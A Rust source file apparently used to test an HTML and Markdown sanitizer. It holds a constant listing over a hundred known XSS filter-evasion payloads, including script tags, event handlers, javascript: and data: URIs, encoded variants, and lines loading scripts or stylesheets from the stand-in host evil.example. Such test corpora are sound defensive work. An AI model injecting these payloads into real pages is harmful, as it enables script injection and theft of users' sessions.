//! Texts that have made pages act: of the OWASP filter evasion list, of reports about renderers of Markdown, and of this project.

/// One text a line.
pub(crate) const TEXTS: &str = r#"<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script src=//evil.example/x.js>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x20type="text/javascript">alert(1);</script>
<script
>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script>
<!--<script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>
"><script>alert(1)</script>
'><script>alert(1)</script>
"/><svg onload=alert(1)>
<img src=x onerror=alert(1)>
<IMG SRC="javascript:alert('XSS');">
<IMG SRC=javascript:alert('XSS')>
<IMG SRC=JaVaScRiPt:alert('XSS')>
<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`>
<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\>
<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<IMG SRC=# onmouseover="alert('xxs')">
<IMG SRC= onmouseover="alert('xxs')">
<IMG onmouseover="alert('xxs')">
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>
<IMG SRC="jav	ascript:alert('XSS');">
<IMG SRC="jav&#x09;ascript:alert('XSS');">
<IMG SRC="jav&#x0A;ascript:alert('XSS');">
<IMG SRC=" &#14; javascript:alert('XSS');">
<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>
<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>
<<SCRIPT>alert("XSS");//\<</SCRIPT>
<SCRIPT SRC=https://evil.example/xss.js?< B >
<IMG SRC="`<javascript:alert>`('XSS')"
</TITLE><SCRIPT>alert("XSS");</SCRIPT>
<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">
<BODY BACKGROUND="javascript:alert('XSS')">
<IMG DYNSRC="javascript:alert('XSS')">
<IMG LOWSRC="javascript:alert('XSS')">
<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>
<IMG SRC='vbscript:msgbox("XSS")'>
<svg/onload=alert('XSS')>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/>
<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>
<BODY ONLOAD=alert('XSS')>
<BGSOUND SRC="javascript:alert('XSS');">
<BR SIZE="&{alert('XSS')}">
<LINK REL="stylesheet" HREF="javascript:alert('XSS');">
<LINK REL="stylesheet" HREF="https://evil.example/xss.css">
<STYLE>@import'https://evil.example/xss.css';</STYLE>
<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">
<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>
<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">
<STYLE TYPE="text/javascript">alert('XSS');</STYLE>
<XSS STYLE="xss:expression(alert('XSS'))">
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">
<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">
<IFRAME SRC="javascript:alert('XSS');"></IFRAME>
<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>
<TABLE BACKGROUND="javascript:alert('XSS')">
<DIV STYLE="background-image: url(javascript:alert('XSS'))">
<DIV STYLE="width: expression(alert('XSS'));">
<BASE HREF="javascript:alert('XSS');//">
<base href=https://evil.example/>
<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>
<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>
<object data="javascript:alert(1)">
<form action="javascript:alert(1)"><input type=submit autofocus></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<video><source onerror="alert(1)">
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a onmouseover=alert(1)>x</a>
<a href=x id=alert name=alert>x</a>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](java&Tab;script:alert(1))
[x](&#106;avascript:alert(1))
[x](<javascript:alert(1)>)
[x](  javascript:alert(1) "title")
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](//evil.example/x)
[x](/\evil.example)
[x](\\evil.example\x)
[x](?x=<script>alert(1)</script>)
[x](#"><script>alert(1)</script>)
[x](https://evil.example/"onmouseover="alert(1))
[x](https://evil.example/ "\"><script>alert(1)</script>")
[x][1]
[1]: javascript:alert(1) "t"
<javascript:alert(1)>
<https://evil.example/"onclick=alert(1)>
![x](https://evil.example/x.png)
![x](javascript:alert(1))
![x](x" onerror="alert(1))
![<img src=x onerror=alert(1)>](x.png "<img src=x onerror=alert(1)>")
`<script>alert(1)</script>`
``` "><script>alert(1)</script>
```
~~~ onload=alert(1)
<script>alert(1)</script>
~~~
# <img src=x onerror=alert(1)> {#id onclick=alert(1)}
| <img src=x onerror=alert(1)> | b |
> <iframe src=javascript:alert(1)>
- [ ] <input onfocus=alert(1) autofocus>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
{{constructor.constructor('alert(1)')()}}
${alert(1)}
*/alert(1)/*
';alert(1)//
";alert(1)//
</textarea><script>alert(1)</script>
</svg><script>alert(1)</script>
</pre></code></p></div></main><script>alert(1)</script>
<x onclick=alert(1) tabindex=1 id=x autofocus>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<title><img src=x onerror=alert(1)></title>
<body><style>*{display:none}</style>
<link rel=icon href=https://evil.example/x.ico>
<meta http-equiv="Content-Security-Policy" content="script-src *">
<portal src=https://evil.example>
<dialog open onclose=alert(1)>
<img srcset="https://evil.example/x 1x">
<picture><source srcset="https://evil.example/x"></picture>
<track src=https://evil.example>
@import url(https://evil.example/x.css);"#;
